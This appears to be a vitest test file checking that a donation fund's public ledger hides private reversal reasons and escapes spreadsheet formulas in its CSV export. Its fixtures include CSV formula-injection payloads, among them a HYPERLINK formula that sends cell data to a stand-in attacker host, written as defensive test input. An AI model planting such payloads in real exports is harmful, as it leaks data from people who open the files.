import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { databaseKinds } from "../support/databases";
import { createTestApp, type TestApp } from "../support/harness";
import { fundWorld, receipt, type FundWorld } from "./fixtures";

const REASON = "Nhập nhầm, tiền của bà Nguyễn Thị Mai CCCD 062185001234 gửi trả lại";

describe.each(databaseKinds)("the public ledger publishes nothing staff typed, and its CSV runs no formula (issue 15, item 10), on %s", (kind) => {
  let t: TestApp;
  let w: FundWorld;
  beforeAll(async () => {
    t = await createTestApp(kind, { now: "2026-11-02T02:00:00Z" });
    w = await fundWorld(t);
    await receipt(t, w, 9_000_000, { donorName: '=HYPERLINK("http://evil.example/?x="&A1,"Xem")', receiptNumber: "-2+3" });
    await receipt(t, w, 1_000_000, { donorName: "@SUM(1+1)", earmark: "+Lũ lụt", receiptNumber: "PT-2" });
    const wrong = await receipt(t, w, 500_000, { donorName: "Hội Phụ nữ", receiptNumber: "PT-3" });
    const res = await t.request(w.accountant, "POST", `/api/funds/${w.fundId}/entries/${wrong.id}/reverse`, { reason: REASON });
    expect(res.status).toBe(201);
  }, 120_000);
  afterAll(async () => t.close());

  it("shows a correction with a fixed text, never its reason (a CCCD and a name typed there stayed private)", async () => {
    const json = await (await t.request(null, "GET", `/api/public/funds/${w.fundId}/ledger`)).text();
    const csv = await (await t.request(null, "GET", `/api/public/funds/${w.fundId}/ledger.csv`)).text();
    for (const text of [json, csv]) {
      expect(text).not.toContain("062185001234");
      expect(text).not.toContain("Nguyễn Thị Mai");
    }
    const ledger = JSON.parse(json) as { entries: { kind: string; note: string | null }[] };
    expect(ledger.entries.filter((e) => e.kind === "reversal").map((e) => e.note)).toEqual(["Điều chỉnh bút toán số PT-3"]);
    // The staff still read the reason.
    const staff = (await (await t.request(w.accountant, "GET", `/api/funds/${w.fundId}/entries`)).json()) as { items: { kind: string; note: string | null }[] };
    expect(staff.items.find((e) => e.kind === "reversal")!.note).toBe(REASON);
  });

  it("neutralises every cell a spreadsheet would run as a formula (= + - @; tabs are trimmed on the way in)", async () => {
    const csv = await (await t.request(null, "GET", `/api/public/funds/${w.fundId}/ledger.csv`)).text();
    const cells = csv.split("\r\n").flatMap((row) => row.match(/("([^"]|"")*"|[^,]*)/g) ?? []).map((c) => c.replace(/^"|"$/g, ""));
    for (const cell of cells) expect(cell).not.toMatch(/^[=+@\t\r]|^-[^0-9]|^-\d+\D/);
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Xem"")"`);
    expect(csv).toContain("'-2+3");
    expect(csv).toContain("'@SUM(1+1)");
    expect(csv).toContain("'+Lũ lụt");
    // Amounts stay numbers: the reversal of a receipt is a negative number, not text.
    expect(csv).toContain(",-500000,");
  });
});
